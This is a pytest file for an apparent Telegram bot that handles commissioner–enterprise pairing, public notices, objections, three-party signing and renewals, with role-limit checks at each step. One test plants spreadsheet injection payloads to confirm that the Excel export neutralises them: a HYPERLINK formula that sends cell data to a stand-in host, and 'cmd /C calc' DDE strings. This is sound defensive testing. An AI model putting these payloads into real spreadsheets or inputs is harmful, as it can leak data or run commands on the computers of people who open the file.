"""Need → ranked candidates → two-way interest → the bureau's confirmation → public notice with and
without objections → three-party signing → agreement → renewal, through the real Dispatcher on
SQLite and PostgreSQL, with each step's role limits."""
from __future__ import annotations

import asyncio
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli import main
from domain.roles import Role
from services.importer import Kind, import_file
from services.selection.tick import selection_tick
from storage.models import Agreement, AuditEntry, Commissioner, Need, Objection, Pairing
from storage.repositories import Repos
from testkit.botkit import Harness, Person, alerts, texts
from testkit.databases import EXAMPLES
from testkit.visitflow import Walk
from testkit.worlds import BUREAU_ADMIN, LI_MING, WANG, ZHANG, harness, inbox, invite, received, world  # noqa: F401

SHANGHAI = ZoneInfo("Asia/Shanghai")
SUN = Person(1101, "悦", "孙")  # A002, an applicant (温室环境控制), unit U02, 平定县
LI_QIANG = Person(1102, "强", "李")  # C003 (设施农业), 平定县
TAIFENG = Person(4101, "强", "王")  # contact of E003 (平定县泰丰农业)
U02 = Person(5101, "秀兰", "王")  # contact of the dispatching unit U02
PINGDING = Person(3101, "县", "平")  # county admin of 平定县
N003 = "平定县泰丰农业科技有限公司"


@pytest.fixture
async def people(harness, world, clock) -> Harness:  # noqa: ANN001, F811
    """The example needs and applicants, and everyone who acts in the chain, registered."""
    async with world[0]() as session:
        repos = Repos(session)
        for kind in ("needs", "applicants"):
            assert (await import_file(repos, clock, EXAMPLES / f"{kind}.csv", Kind(kind), "test")).ok
        await repos.commit()
    for person, role, code in ((SUN, Role.COMMISSIONER, "A002"), (LI_QIANG, Role.COMMISSIONER, "C003"),
                               (TAIFENG, Role.ENTERPRISE, "E003"), (U02, Role.UNIT, "U02"),
                               (PINGDING, Role.COUNTY, "平定县"), (BUREAU_ADMIN, Role.BUREAU, "市科技局")):
        await harness.send(person, f"/start {await invite(world[0], clock, role, code)}")
    return harness


async def rows(h: Harness, model: type, *where) -> list:  # noqa: ANN002
    async with h.sessionmaker() as session:
        return list((await session.scalars(select(model).where(*where).order_by(model.id))).unique().all())


async def actions(h: Harness) -> list[str]:
    return [e.action for e in await rows(h, AuditEntry, AuditEntry.action.startswith("selection."))]


async def tick(h: Harness, clock, policy) -> dict[str, int]:  # noqa: ANN001
    async with h.sessionmaker() as session:
        repos = Repos(session)
        counts = await selection_tick(repos, clock, policy, SHANGHAI)
        await repos.commit()
    return counts


async def choose_each_other(h: Harness, commissioner: Person, contact: Person) -> Pairing:
    """The commissioner picks the need from /needs; the enterprise chooses them back from its notice."""
    walk = Walk(h, commissioner)
    await walk.send("/needs")
    assert N003 in texts(walk.seen)[0] and "推荐理由" in texts(walk.seen)[0]
    await walk.press_on(N003, "🙋 我愿意服务这家企业")
    assert "已表达意向" in walk.last_text()
    mark = len(h.session.requests)
    await h.drain()
    [asked] = received(h, contact, mark)
    assert "愿意对接您的" in asked
    await inbox(h, contact).press("✅ 我们也选择 TA")
    assert "双方已互相选择" in texts(h.session.requests)[-1]
    [pairing] = await rows(h, Pairing, Pairing.status == "interest")
    return pairing


async def test_need_to_three_party_agreement_with_a_dismissed_objection(people, clock, policy) -> None:
    h = people
    # The county admin sees the county's open needs and the ranked candidates, with the reasons.
    walk = Walk(h, PINGDING)
    await walk.send("/needs")
    assert "1 条" in texts(walk.seen)[0] and N003 in walk.last_text()
    await walk.press("🔎 候选特派员")
    ranking = walk.last_text()
    # 孙悦's 温室环境控制 fits the greenhouse problem better than 李强's 设施农业; both are local.
    assert ranking.index("1. 孙悦（A002）") < ranking.index("2. 李强（C003）")
    assert "专长相符：农业、控制、温室、环境；同一县区；已服务 0/3 家；申报人（尚未入选）" in ranking

    pairing = await choose_each_other(h, SUN, TAIFENG)
    assert pairing.commissioner.code == "A002" and pairing.need.field == "设施农业"
    mark = len(h.session.requests)
    await h.drain()
    [ready] = received(h, BUREAU_ADMIN, mark)
    assert "请确认结对" in ready and "孙悦（A002）" in ready and "目前服务 0/3 家企业" in ready
    # Only the bureau confirms: the commissioner and a county admin pressing the same button are refused.
    confirm = inbox(h, BUREAU_ADMIN).button("✅ 确认结对")
    for person in (SUN, PINGDING):
        assert "只有市科技局" in alerts(await h.press(person, confirm))[0]
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    assert "公示期 2026年3月17日 至 2026年3月23日" in texts(h.session.requests)[-1]  # 5 working days
    [pairing] = await rows(h, Pairing)
    assert (pairing.status, pairing.notice_start, pairing.notice_end) == ("notice", date(2026, 3, 17),
                                                                         date(2026, 3, 23))
    again = await h.press(BUREAU_ADMIN, confirm)
    assert "已经处理过了" in alerts(again)[0]

    # The notice goes to the bureau, the county and both sides; the county admin objects.
    mark = len(h.session.requests)
    await h.drain()
    for person in (BUREAU_ADMIN, PINGDING, SUN, TAIFENG):
        assert any("📢 公示" in text for text in received(h, person, mark)), person
    objecting = inbox(h, PINGDING)
    await objecting.press("✋ 提出异议")
    assert "请写明理由" in objecting.last_text()
    assert "理由太短" in (await h.send(PINGDING, "不同意"))[0]
    assert "异议 #" in (await h.send(PINGDING, "该企业与申报人所在单位存在合同纠纷，请核实。"))[0]
    [pairing] = await rows(h, Pairing)
    assert pairing.status == "held"
    mark = len(h.session.requests)
    await h.drain()
    [objection_notice] = received(h, BUREAU_ADMIN, mark)
    assert "合同纠纷" in objection_notice and "已暂停" in objection_notice
    dismiss = inbox(h, BUREAU_ADMIN).button("↩️ 异议不成立")
    assert "只有市科技局" in alerts(await h.press(PINGDING, dismiss))[0]  # the county may object, not decide
    assert "有异议，待市科技局处理" in (await h.send(SUN, "/notice"))[-1]  # held, shown as such
    await inbox(h, BUREAU_ADMIN).press("↩️ 异议不成立")
    [objection] = await rows(h, Objection)
    assert objection.decision == "dismissed"
    assert (await rows(h, Pairing))[0].status == "notice"  # the notice runs on
    mark = len(h.session.requests)
    await h.drain()
    assert any("认定不成立" in text for text in received(h, PINGDING, mark))

    # Nothing happens before the notice is over; the day after, the parties are asked to sign.
    clock.set(datetime(2026, 3, 23, 18, 0, tzinfo=SHANGHAI))
    assert (await tick(h, clock, policy))["notices_closed"] == 0
    clock.set(datetime(2026, 3, 24, 9, 0, tzinfo=SHANGHAI))
    assert (await tick(h, clock, policy))["notices_closed"] == 1
    [pairing] = await rows(h, Pairing)
    assert (pairing.status, pairing.unit_signs) == ("signing", True)  # Yangquan: 三方签订, U02 is registered
    mark = len(h.session.requests)
    await h.drain()
    for person in (SUN, TAIFENG, U02):
        assert any("请以" in text and "确认签订服务协议" in text for text in received(h, person, mark)), person
    sign = inbox(h, SUN).button("✍️ 确认签订协议")
    assert "只能由当事方" in alerts(await h.press(WANG, sign))[0]
    await inbox(h, SUN).press("✍️ 确认签订协议")
    assert "还在等待：派驻企业、派出单位" in texts(h.session.requests)[-1]
    assert "已经签订过了" in alerts(await h.press(SUN, sign))[0]
    assert "待签订" in (await h.send(TAIFENG, "/sign"))[0]
    await inbox(h, TAIFENG).press("✍️ 确认签订协议")
    await inbox(h, U02).press("✍️ 确认签订协议")
    assert "协议生效：2026年3月24日 至 2027年3月23日" in texts(h.session.requests)[-1]

    [pairing] = await rows(h, Pairing)
    [agreement] = await rows(h, Agreement, Agreement.id == pairing.agreement_id)
    assert (pairing.status, agreement.status, agreement.start_date, agreement.end_date) == (
        "agreed", "active", date(2026, 3, 24), date(2027, 3, 23))
    assert agreement.targets == pairing.need.expected_help
    [sun] = await rows(h, Commissioner, Commissioner.code == "A002")
    assert sun.status == "active"  # the applicant is now a commissioner
    [need] = await rows(h, Need, Need.id == pairing.need_id)
    assert need.status == "matched"
    assert await actions(h) == ["selection.interest", "selection.interest", "selection.confirm", "selection.object",
                                "selection.objection_dismissed", "selection.notice_over", "selection.sign",
                                "selection.sign", "selection.sign"]
    mark = len(h.session.requests)
    await h.drain()
    for person in (SUN, TAIFENG, U02, BUREAU_ADMIN):
        assert any("服务协议已生效" in text for text in received(h, person, mark)), person
    # The new commissioner now has the agreement: /sign has nothing left, the need is gone from /needs.
    assert "没有等您签订" in (await h.send(SUN, "/sign"))[0]
    assert "没有待对接" in (await h.send(PINGDING, "/needs"))[0]


async def test_a_notice_without_objection_goes_to_signing(people, clock, policy) -> None:
    h = people
    await choose_each_other(h, LI_QIANG, TAIFENG)
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    clock.set(datetime(2026, 3, 24, 9, 0, tzinfo=SHANGHAI))  # the morning after the period
    assert (await tick(h, clock, policy)) == {"notices_closed": 1, "renewal_offers": 0}
    [pairing] = await rows(h, Pairing)
    # C003's unit U02 has a registered contact: the unit signs too (Yangquan 第十四条（五）).
    assert (pairing.status, pairing.unit_signs) == ("signing", True)
    assert await actions(h) == ["selection.interest", "selection.interest", "selection.confirm",
                                "selection.notice_over"]
    assert (await tick(h, clock, policy))["notices_closed"] == 0  # once
    # C003 serves E003 already (2026): the need joins that agreement instead of a second one.
    await h.drain()
    for person in (LI_QIANG, TAIFENG, U02):
        await inbox(h, person).press("✍️ 确认签订协议")
    assert "协议生效：2026年1月1日 至 2026年12月31日" in texts(h.session.requests)[-1]
    [pairing] = await rows(h, Pairing)
    [agreement] = await rows(h, Agreement, Agreement.commissioner_id == pairing.commissioner_id)
    assert pairing.agreement_id == agreement.id and agreement.targets.endswith(pairing.need.expected_help)
    assert [e.action for e in await rows(h, AuditEntry, AuditEntry.action.startswith("agreement."))] == [
        "agreement.extend"]


async def test_an_upheld_objection_rejects_the_pairing(people, clock) -> None:
    h = people
    await choose_each_other(h, LI_QIANG, TAIFENG)
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    await h.drain()
    assert "正在公示的结对共 1 个" in (await h.send(SUN, "/notice"))[0]
    walk = Walk(h, SUN)
    await walk.send("/notice")
    await walk.press("✋ 提出异议")
    await h.send(SUN, "申报材料中的服务经历与事实不符，请核实。")
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 异议成立")
    [pairing] = await rows(h, Pairing)
    assert pairing.status == "rejected" and pairing.agreement_id is None
    mark = len(h.session.requests)
    await h.drain()
    for person in (LI_QIANG, TAIFENG, SUN):
        assert any("认定成立" in text for text in received(h, person, mark)), person
    # No more objections to a closed notice; the need is open again for others.
    assert "不在公示期内" in alerts(await h.press(SUN, walk.button("✋ 提出异议")))[0]
    assert "没有正在公示" in (await h.send(SUN, "/notice"))[0]
    assert (await rows(h, Need, Need.code == "N003"))[0].status == "open"
    # Objections close with the period.
    clock.set(datetime(2026, 3, 24, 9, 0, tzinfo=SHANGHAI))
    assert "已经处理过了" in alerts(await h.press(BUREAU_ADMIN, inbox(h, BUREAU_ADMIN).button("↩️ 异议不成立")))[0]


@pytest.mark.parametrize("policy", ["jincheng"], indirect=True)
async def test_without_public_notice_two_parties_sign(people, clock, policy) -> None:
    h = people
    await choose_each_other(h, SUN, TAIFENG)
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    assert "无需公示" in texts(h.session.requests)[-1]
    [pairing] = await rows(h, Pairing)
    assert (pairing.status, pairing.notice_end, pairing.unit_signs) == ("signing", None, False)
    mark = len(h.session.requests)
    await h.drain()
    assert received(h, U02, mark) == []  # Jincheng 第九条: the commissioner and the enterprise sign
    await inbox(h, TAIFENG).press("✍️ 确认签订协议")
    assert "还在等待：科技特派员" in texts(h.session.requests)[-1]
    await inbox(h, SUN).press("✍️ 确认签订协议")
    assert "协议生效：2026年3月16日 至 2027年3月15日" in texts(h.session.requests)[-1]


async def test_long_lists_say_there_is_more(people, monkeypatch) -> None:
    import handlers.selection

    monkeypatch.setattr(handlers.selection, "SHOWN", 2)
    answers = await people.send(BUREAU_ADMIN, "/needs")
    assert "共 6 条" in answers[0] and len(answers) == 4 and "以上是前 2 条，共 6 条" in answers[-1]


async def test_interest_limits(people, clock) -> None:
    h = people
    # The enterprise sees its need's candidates and chooses from them; another enterprise may not.
    async with h.sessionmaker() as session:
        n003 = await session.scalar(select(Need).where(Need.code == "N003"))
    from keyboards.selection import Interest, NeedView

    assert "找不到这条需求" in alerts(await h.press(LI_MING, NeedView(n=n003.id).pack()))[0]
    walk = Walk(h, TAIFENG)
    await walk.send("/needs")
    await walk.press(f"🔎 #{n003.id} 候选")
    assert "的候选特派员" in walk.last_text()
    await walk.press("✅ 选择 李强")
    assert "已表达意向" in walk.last_text()
    assert "您已经表达过意向" in alerts(await h.press(TAIFENG, walk.button("✅ 选择 李强")))[0]
    c003 = (await rows(h, Commissioner, Commissioner.code == "C003"))[0]
    assert "只能由当事方" in alerts(await h.press(LI_MING, Interest(n=n003.id, c=c003.id, s="e").pack()))[0]
    assert "只能由当事方" in alerts(await h.press(ZHANG, Interest(n=n003.id, c=c003.id, s="c").pack()))[0]
    # One side only: the bureau cannot confirm yet, and /pairings has nothing.
    assert "没有等待确认" in (await h.send(BUREAU_ADMIN, "/pairings"))[0]
    # Both sides: /pairings lists it with the commissioner's load (C003 serves E003 already).
    c003_walk = Walk(h, LI_QIANG)
    await c003_walk.send("/needs")
    await c003_walk.press_on(N003, "🙋 我愿意服务这家企业")
    listed = await h.send(BUREAU_ADMIN, "/pairings")
    assert "共 1 个" in listed[0] and "李强（C003）" in listed[1] and "目前服务 1/3 家企业" in listed[1]
    # A commissioner who is disqualified cannot be chosen.
    async with h.sessionmaker() as session:
        row = await session.scalar(select(Commissioner).where(Commissioner.code == "A002"))
        row.status = "disqualified"
        await session.commit()
    sun = (await rows(h, Commissioner, Commissioner.code == "A002"))[0]
    assert "不能参加选派" in alerts(await h.press(TAIFENG, Interest(n=n003.id, c=sun.id, s="e").pack()))[0]
    # Commissioners without the bureau role have no /pairings; unregistered people no /notice.
    assert "仅限市科学技术局管理员" in (await h.send(ZHANG, "/pairings"))[0]
    stranger = Person(9901, "客", "路")
    assert "公示" not in (await h.send(stranger, "/notice"))[0]
    # Withdrawing the need ends the selection running on it.
    await walk.send("/needs")
    await walk.press(f"撤回需求 #{n003.id}")
    [pairing] = await rows(h, Pairing)
    assert pairing.status == "rejected"


async def test_notice_list_export_for_admins_only(people, database_url, monkeypatch, capsys, tmp_path) -> None:
    h = people
    await choose_each_other(h, SUN, TAIFENG)
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    walk = Walk(h, PINGDING)
    await walk.send("/notice")
    await walk.press("📥 导出公示名单")
    [document] = [r for r in walk.seen if type(r).__name__ == "SendDocument"]
    sheet = load_workbook(_bytes_of(document)).active
    assert [c.value.replace("\n", "") for c in sheet[1]][:3] == ["编号", "特派员编号", "科技特派员"]  # long labels wrap
    assert [c.value for c in sheet[2]][1:3] == ["A002", "孙悦"]
    assert sheet[2][9].value == "2026-03-17" and sheet[2][11].value == "公示中"
    commissioner = Walk(h, SUN)
    await commissioner.send("/notice")
    with pytest.raises(AssertionError):
        commissioner.button("📥 导出公示名单")
    # The same list from the command line.
    monkeypatch.setenv("TEPAI_DATABASE_URL", database_url)
    monkeypatch.setenv("TEPAI_DATA_DIR", str(tmp_path))
    assert await asyncio.to_thread(main, ["notice", "--xlsx", str(tmp_path / "notice.xlsx")]) == 0
    out = capsys.readouterr().out
    assert "孙悦  A002  平定县泰丰农业科技有限公司" in out and "公示期 2026年3月17日 至 2026年3月23日" in out
    assert "已写入" in out
    assert load_workbook(tmp_path / "notice.xlsx").active["C2"].value == "孙悦"


async def test_notice_export_writes_formula_like_text_as_text(people) -> None:
    """What an enterprise typed (or an import brought) never runs as a formula in the export."""
    h = people
    pairing = await choose_each_other(h, SUN, TAIFENG)
    typed = {"field": "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "expected_help": "+1+cmd|' /C calc'!A0",
             "enterprise": "@SUM(1+1)*cmd|' /C calc'!A0"}
    async with h.sessionmaker() as session:
        need = await session.get(Need, pairing.need_id)
        need.field, need.expected_help = typed["field"], typed["expected_help"]
        need.enterprise.name = typed["enterprise"]
        await session.commit()
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    walk = Walk(h, PINGDING)
    await walk.send("/notice")
    await walk.press("📥 导出公示名单")
    [document] = [r for r in walk.seen if type(r).__name__ == "SendDocument"]
    row = load_workbook(_bytes_of(document)).active[2]
    for cell, value in ((row[5], typed["enterprise"]), (row[7], typed["field"]), (row[8], typed["expected_help"])):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


def _bytes_of(document):  # noqa: ANN001, ANN202
    from io import BytesIO

    return BytesIO(document.document.data)


async def test_renewal_offered_thirty_days_before_the_end(people, clock, policy) -> None:
    h = people
    clock.set(datetime(2026, 11, 30, 10, 0, tzinfo=SHANGHAI))  # C001–E001 ends 2026-12-31: not yet
    assert (await tick(h, clock, policy))["renewal_offers"] == 0
    clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI))
    assert (await tick(h, clock, policy))["renewal_offers"] >= 2
    assert (await tick(h, clock, policy))["renewal_offers"] == 0  # once
    mark = len(h.session.requests)
    await h.drain()
    offers = [text for text in received(h, ZHANG, mark) if "即将到期" in text]
    assert any("阳泉华鑫耐火材料有限公司" in text for text in offers)
    [li_ming_offer] = [text for text in received(h, LI_MING, mark) if "即将到期" in text]
    # ZHANG has two agreements ending: renew the one with E001.
    zhang = inbox(h, ZHANG)
    huaxin = next(r for r in reversed(zhang.seen) if "阳泉华鑫" in (getattr(r, "text", "") or "")
                  and "即将到期" in r.text)
    renew = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "同意续签" in b.text)
    assert "只能由当事方" in alerts(await h.press(WANG, renew))[0]
    await h.press(ZHANG, renew)
    assert "等待对方答复" in texts(h.session.requests)[-1]
    assert "已经答复过" in alerts(await h.press(ZHANG, renew))[0]
    await inbox(h, LI_MING).press("✅ 同意续签")
    assert "新协议：2027年1月1日 至 2027年12月31日" in texts(h.session.requests)[-1]
    [renewed] = await rows(h, Agreement, Agreement.start_date == date(2027, 1, 1))
    assert (renewed.end_date, renewed.status, renewed.targets) == (date(2027, 12, 31), "active", None)
    assert "已经续签" in alerts(await h.press(LI_MING, renew))[0]
    mark = len(h.session.requests)
    await h.drain()
    assert any("也同意续签" in text for text in received(h, ZHANG, mark))
    # ZHANG's other agreement (with E005) ends on 31 January: offered in January; ZHANG declines.
    clock.set(datetime(2027, 1, 2, 10, 0, tzinfo=SHANGHAI))
    assert (await tick(h, clock, policy))["renewal_offers"] >= 1
    await h.drain()
    zhang = inbox(h, ZHANG)
    other = next(r for r in reversed(zhang.seen) if "恒通" in (getattr(r, "text", "") or "") and "即将到期" in r.text)
    decline = next(b.callback_data for row in other.reply_markup.inline_keyboard for b in row if "不再续签" in b.text)
    await h.press(ZHANG, decline)
    assert "不再续签" in texts(h.session.requests)[-1]
    assert len(await rows(h, Agreement, Agreement.start_date == date(2027, 2, 1))) == 0
    assert "华鑫" in li_ming_offer


async def test_one_objection_per_person_per_pairing(people) -> None:
    h = people
    await choose_each_other(h, LI_QIANG, TAIFENG)
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
    walk = Walk(h, SUN)
    await walk.send("/notice")
    await walk.press("✋ 提出异议")
    await h.send(SUN, "申报材料中的服务经历与事实不符，请核实。")
    await h.drain()
    await inbox(h, BUREAU_ADMIN).press("↩️ 异议不成立")
    [pairing] = await rows(h, Pairing)
    assert pairing.status == "notice"
    # The same person cannot hold the pairing again, neither from the button nor from a kept draft.
    again = await walk.press("✋ 提出异议")
    assert "只能提出一次" in alerts(again)[0] and texts(again) == []
    await h.dp.storage.set_state(h.state_key(SUN), "ObjectionForm:reason")
    await h.dp.storage.set_data(h.state_key(SUN), {"pairing": pairing.id})
    assert "只能提出一次" in (await h.send(SUN, "再次提出异议：服务经历与事实不符。"))[0]
    assert len(await rows(h, Objection)) == 1
    [pairing] = await rows(h, Pairing)
    assert pairing.status == "notice"
    # Someone else still may.
    other = Walk(h, LI_MING)
    await other.send("/notice")
    await other.press("✋ 提出异议")
    assert "已提交" in (await h.send(LI_MING, "该特派员与企业负责人存在亲属关系。"))[0]
    assert len(await rows(h, Objection)) == 2


async def test_a_renewal_decline_is_stored_and_told_once(people, clock, policy) -> None:
    h = people
    clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI))
    await tick(h, clock, policy)
    await h.drain()
    zhang = inbox(h, ZHANG)
    huaxin = next(r for r in reversed(zhang.seen) if "阳泉华鑫" in (getattr(r, "text", "") or "")
                  and "即将到期" in r.text)
    decline = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "不再续签" in b.text)
    renew = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "同意续签" in b.text)
    mark = len(h.session.requests)
    await h.press(ZHANG, decline)
    assert "已经答复过" in alerts(await h.press(ZHANG, decline))[0]
    assert "已经答复过" in alerts(await h.press(ZHANG, renew))[0]
    await h.drain()
    assert len([text for text in received(h, LI_MING, mark) if "不再续签" in text]) == 1
    [agreement] = await rows(h, Agreement, Agreement.end_date == date(2026, 12, 31),
                             Agreement.renew_commissioner_declined_at.is_not(None))
    assert agreement.renew_commissioner_at is None
    assert [e.action for e in await rows(h, AuditEntry, AuditEntry.action.startswith("agreement.renewal"))] \
        == ["agreement.renewal_no"]

